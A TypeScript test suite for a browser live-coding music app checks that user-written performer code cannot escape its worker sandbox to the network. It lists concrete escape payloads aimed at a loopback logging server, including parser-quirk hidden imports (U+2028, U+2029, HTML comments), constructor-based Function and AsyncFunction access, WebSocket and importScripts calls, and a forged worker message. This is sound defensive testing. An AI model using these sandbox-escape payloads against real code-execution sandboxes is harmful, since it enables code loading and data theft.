// The escape suite: the built app in Chromium, performer code trying every known way out to a
// logging server on loopback, in live play, in Bounce and from a share link. Not one request may
// arrive, and nothing a worker posts may become a download unless it is the bounce's own WAV file.
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { shareUrl } from '../../src/app/share.ts';
import { buildAndServe, EDITOR, launchBrowser, newVisitor, openApp, type ServedApp } from './harness.ts';

let served: ServedApp;
let browser: Browser;
let visitor: BrowserContext;
let logger: Server;
let base: string;
const requests: string[] = [];

beforeAll(async () => {
  logger = createServer((req, res) => {
    requests.push(`${req.method ?? ''} ${req.url ?? ''}`);
    res.setHeader('access-control-allow-origin', '*');
    res.setHeader('content-type', 'text/javascript');
    res.end('export default 1; postMessage({ type: "done" });');
  });
  logger.on('upgrade', (req, socket) => {
    requests.push(`UPGRADE ${req.url ?? ''}`);
    socket.destroy();
  });
  await new Promise<void>((resolve) => logger.listen(0, '127.0.0.1', resolve));
  base = `http://127.0.0.1:${(logger.address() as AddressInfo).port}`;
  [served, browser] = await Promise.all([buildAndServe(), launchBrowser()]);
  visitor = await newVisitor(browser);
}, 120_000);

afterAll(async () => {
  await browser?.close();
  await served?.close();
  await new Promise<void>((resolve) => (logger ? logger.close(() => resolve()) : resolve()));
});

/** Every trick known to reach the network from performer code; `at` names each request. */
function tricks(): { name: string; code: string }[] {
  const url = (at: string): string => `${base}/${at}`;
  return [
    { name: 'U+2028 hides an import from the parser', code: `// note\u2028import('${url('u2028.js')}')\n$: s("bd")` },
    { name: 'U+2029 hides an import from the parser', code: `// note\u2029import('${url('u2029.js')}')\n$: s("bd")` },
    { name: '<!-- hides an import from the parser', code: `const x = 1 <!-- \`\nimport('${url('html.js')}')\n//\`\n$: s("bd")` },
    { name: 'fetch', code: `fetch('${url('fetch')}')\n$: s("bd")` },
    { name: 'WebSocket', code: `new WebSocket('${url('ws').replace('http', 'ws')}')\n$: s("bd")` },
    { name: 'importScripts', code: `importScripts('${url('import-scripts.js')}')\n$: s("bd")` },
    { name: 'Function through an arrow', code: `(() => {}).constructor("return fetch")()('${url('function')}')\n$: s("bd")` },
    { name: 'Function through a method', code: `s("bd").fast.constructor("return import('${url('method.js')}')")()\n$: s("bd")` },
    { name: 'AsyncFunction', code: `Object.getPrototypeOf(async () => {}).constructor("return import('${url('async.js')}')")()\n$: s("bd")` },
    { name: 'import() in a pattern function', code: `$: s("bd").fmap((v) => { import('${url('query.js')}'); return v })` },
    { name: 'a forged done message', code: `postMessage({ type: 'done', wav: new Uint8Array(64) })\n$: s("bd")` },
  ];
}

async function typeInto(page: Page, code: string): Promise<void> {
  await page.click(EDITOR);
  await page.keyboard.press('Control+a');
  await page.keyboard.press('Delete');
  await page.keyboard.insertText(code);
}

describe('performer code', () => {
  it('reaches no network in live play', async () => {
    const page = await openApp(visitor, served.url);
    for (const { code } of tricks()) {
      await typeInto(page, code);
      await page.keyboard.press('Control+Enter');
      await page.waitForTimeout(300);
    }
    await page.waitForTimeout(1000);
    expect(requests).toEqual([]);
    await page.close();
  }, 60_000);

  it('reaches no network in Bounce, and no message it forges becomes a download', async () => {
    const page = await openApp(visitor, served.url);
    const downloads: string[] = [];
    page.on('download', (d) => downloads.push(d.suggestedFilename()));
    for (const { code } of tricks()) {
      await typeInto(page, code);
      await page.click('[data-action="bounce"]');
      await page.fill('[data-overlay="bounce"] input[name="cycles"]', '1');
      await page.click('[data-action="render"]');
      // A bounce either downloads its WAV file or shows why not.
      await page.waitForFunction(() => !document.querySelector('[data-overlay="bounce"] [data-action="render"]')?.hasAttribute('disabled'), undefined, { timeout: 20_000 });
      await page.keyboard.press('Escape');
    }
    await page.waitForTimeout(1000);
    expect(requests).toEqual([]);
    // Only code that plays (the tricks all end with a drum) gives a download, and only real WAV files.
    for (const name of downloads) expect(name).toMatch(/^weft-.*\.wav$/);
    await page.close();
  }, 120_000);

  it('reaches no network from a share link once play is pressed', async () => {
    for (const { code } of tricks().slice(0, 3)) {
      const page = await openApp(visitor, await shareUrl(code, served.url));
      await page.click('[data-action="play"]');
      await page.waitForTimeout(500);
      await page.close();
    }
    expect(requests).toEqual([]);
  }, 60_000);

  it('is stopped by the performer realm\'s Content-Security-Policy even where the isolation would not be', async () => {
    const page = await openApp(visitor, served.url);
    await typeInto(page, '$: s("bd")');
    await page.keyboard.press('Control+Enter');
    await page.waitForTimeout(1000);
    // Code run straight in each performer realm through the DevTools protocol, around every
    // JavaScript-level check: only the policy its script came with stands in the way.
    const cdp = await browser.newBrowserCDPSession();
    const { targetInfos } = await cdp.send('Target.getTargets');
    const realms = targetInfos.filter((t) => /performer-worker/.test(t.url));
    expect(realms.length).toBeGreaterThan(0);
    const outcomes = new Map<number, string>();
    cdp.on('Target.receivedMessageFromTarget', (event) => {
      const reply = JSON.parse(event.message) as { id?: number; result?: { result?: { value?: string } } };
      if (reply.id !== undefined) outcomes.set(reply.id, reply.result?.result?.value ?? '');
    });
    for (const [i, realm] of realms.entries()) {
      const policy = (await fetch(realm.url)).headers.get('content-security-policy') ?? '';
      expect(policy).toContain("default-src 'none'");
      expect(policy).not.toMatch(/connect-src|\*|http/);
      const { sessionId } = await cdp.send('Target.attachToTarget', { targetId: realm.targetId, flatten: false });
      const expression = `import('${base}/csp-${i}.js').then(() => 'imported', (e) => String(e))`;
      await cdp.send('Target.sendMessageToTarget', { sessionId, message: JSON.stringify({ id: i + 1, method: 'Runtime.evaluate', params: { expression, awaitPromise: true } }) });
    }
    await page.waitForTimeout(1000);
    expect([...outcomes.values()]).toHaveLength(realms.length);
    for (const outcome of outcomes.values()) expect(outcome).toMatch(/Failed to fetch/);
    expect(requests).toEqual([]);
    await cdp.detach();
    await page.close();
  }, 60_000);
});
